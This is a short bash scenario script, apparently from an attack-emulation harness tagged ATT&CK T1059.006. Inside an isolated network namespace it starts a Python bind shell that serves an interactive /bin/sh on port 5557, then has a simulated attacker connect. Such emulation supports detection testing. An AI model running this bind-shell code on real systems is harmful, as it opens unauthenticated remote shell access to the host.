#!/usr/bin/env bash
# Bind shell: Python listens, accepts one connection and runs /bin/sh -i on it.
. "$(dirname "$0")/../lib.sh"
scn_begin bindshell-python T1059.006
[ -n "$SCN_PY" ] || scn_skip "python3 is not installed"
scn_netns_up
"$SCN_PY" -c 'import socket,subprocess,os,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind((sys.argv[1],5557)); s.listen(1); c,_=s.accept()
for fd in (0,1,2): os.dup2(c.fileno(),fd)
subprocess.call(["/bin/sh","-i"])' "$SCN_HOST" 2>/dev/null &
interp=$!
scn_track $interp
printf 'SCENARIO-INFO interpreter_pid=%s\n' "$interp"
scn_wait_listen 5557
scn_attacker_connect "$SCN_HOST" 5557
scn_shell_finish
